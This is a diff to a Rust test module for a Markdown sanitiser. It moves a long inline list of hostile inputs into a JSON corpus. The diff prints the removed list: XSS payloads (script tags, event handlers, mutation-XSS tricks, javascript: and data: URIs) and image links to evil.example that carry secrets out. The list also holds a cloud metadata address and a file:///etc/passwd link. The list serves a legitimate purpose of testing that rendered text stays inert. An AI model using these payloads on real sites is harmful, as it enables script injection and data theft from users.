@@ -1,107 +1,22 @@
 //! What Markdown becomes, and what hostile Markdown must not become.
 
+use std::sync::LazyLock;
 use std::time::{Duration, Instant};
+
+use serde_json::Value;
 
 use super::{MAX_MARKDOWN, check, render};
 
-/// Texts that tried to be more than text in some chat, forum or renderer before.
-const HOSTILE: &[&str] = &[
-    // raw HTML
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<iframe src=\"javascript:alert(1)\"></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\">",
-    "<object data=https://evil.example/x.swf>",
-    "<embed src=https://evil.example/x>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
-    "<form action=https://evil.example><input name=password type=password></form>",
-    "<div style=\"background:url(https://evil.example/?q=secret)\">x</div>",
-    "<p style=position:fixed;inset:0>x</p>",
-    "<a href=https://evil.example onmouseover=alert(1)>x</a>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<textarea><script>alert(1)</script>",
-    "<xmp><script>alert(1)</script></xmp>",
-    "<plaintext>",
-    "<!--><script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version=\"1.0\"?><script>alert(1)</script>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<<SCRIPT>alert(1)//<</SCRIPT>",
-    "<img/src=`x`onerror=alert(1)>",
-    "<div id=composer name=body>",
-    // links
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java\tscript:alert(1))",
-    "[x](\u{1}javascript:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html,<script>alert(1)</script>)",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
-    "[x](file:///etc/passwd)",
-    "[x](http:logout)",
-    "[x](//evil.example/)",
-    "[x](/web/session/logout)",
-    "[x](#composer)",
-    "[x](https://ok.example \"\\\" onmouseover=\\\"alert(1)\")",
-    "[x](https://ok.example/\"onmouseover=alert(1)//)",
-    "[x][1]\n\n[1]: javascript:alert(1)",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "<javascript:alert(1)>",
-    "<data:text/html,x>",
-    "<a@b.c\"onclick=alert(1)>",
-    // images: whatever is loaded by itself can carry a secret away
-    "![x](https://evil.example/?q=secret)",
-    "![x](//evil.example/?q=secret)",
-    "![x](http://169.254.169.254/latest/meta-data)",
-    "![x](/assets/favicon.svg)",
-    "![x][1]\n\n[1]: https://evil.example/?q=secret",
-    "![x]\n\n[x]: https://evil.example/?q=secret \"title\"",
-    "![x][]\n\n[x]: <https://evil.example/?q=secret>",
-    "[![x](https://evil.example/1.png)](https://evil.example/2)",
-    "![![x](https://evil.example/1.png)](https://evil.example/2.png)",
-    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
-    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
-    "![x](data:text/html;base64,PHNjcmlwdD4=)",
-    "![x](data:image/png;base64,AAAA\"onerror=alert(1)//)",
-    "![x](data:image/png,<svg>)",
-    "![\"onerror=\"alert(1)](data:image/png;base64,AAAA)",
-    "![</p><script>alert(1)</script>](data:image/png;base64,AAAA)",
-    "![x](javascript:alert(1))",
-    // code, tables and blocks
-    "```\"><script>alert(1)</script>\nx\n```",
-    "```rust\" onclick=\"alert(1)\nx\n```",
-    "`<script>alert(1)</script>`",
-    "| a |\n| - |\n| <script>alert(1)</script> |",
-    "| a |\n| :-: |\n| ![x](https://evil.example/) |",
-    "# <img src=x onerror=alert(1)> {#id .class onclick=alert(1)}",
-    "> <script>\n> alert(1)\n> </script>",
-    "- [x] <input autofocus onfocus=alert(1)>",
-    "[^1]\n\n[^1]: <script>alert(1)</script>",
-    "<div\n\n<script>alert(1)</script>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)",
-    "\u{0}<scr\u{0}ipt>alert(1)",
-    "<a\u{a0}href=x>\u{2028}<b>",
-    "$$<script>alert(1)</script>$$",
-];
+/// Texts that tried to be more than text in some chat, forum or renderer before. The browser checks show the same ones.
+static CORPUS: LazyLock<Vec<String>> = LazyLock::new(|| {
+    let corpus: Value = serde_json::from_str(include_str!("../../../tests/hostile/markdown.json")).unwrap();
+    corpus["texts"].as_array().unwrap().iter().map(|text| text.as_str().unwrap().to_owned()).collect()
+});
 
 #[test]
 fn hostile_texts_stay_texts() {
-    assert!(HOSTILE.len() >= 50);
-    for text in HOSTILE {
+    assert!(CORPUS.len() >= 140);
+    for text in CORPUS.iter() {
         check::check(text.as_bytes());
         for wrapped in [
             format!("> {text}"),
@@ -120,8 +35,8 @@ fn hostile_texts_stay_texts() {
 
 #[test]
 fn pairs_of_hostile_texts_stay_texts() {
-    for first in HOSTILE {
-        for second in HOSTILE {
+    for first in CORPUS.iter() {
+        for second in CORPUS.iter() {
             check::check(format!("{first}{second}").as_bytes());
         }
     }
@@ -129,7 +44,7 @@ fn pairs_of_hostile_texts_stay_texts() {
 
 #[test]
 fn no_part_of_a_hostile_text_is_a_surprise() {
-    for text in HOSTILE {
+    for text in CORPUS.iter() {
         for (end, _) in text.char_indices() {
             check::check(&text.as_bytes()[..end]);
             check::check(&text.as_bytes()[end..]);
@@ -139,7 +54,7 @@ fn no_part_of_a_hostile_text_is_a_surprise() {
 
 #[test]
 fn sanitising_again_changes_nothing() {
-    for text in HOSTILE {
+    for text in CORPUS.iter() {
         let once = render(text);
         // the guards of a link may change places
         let plain =
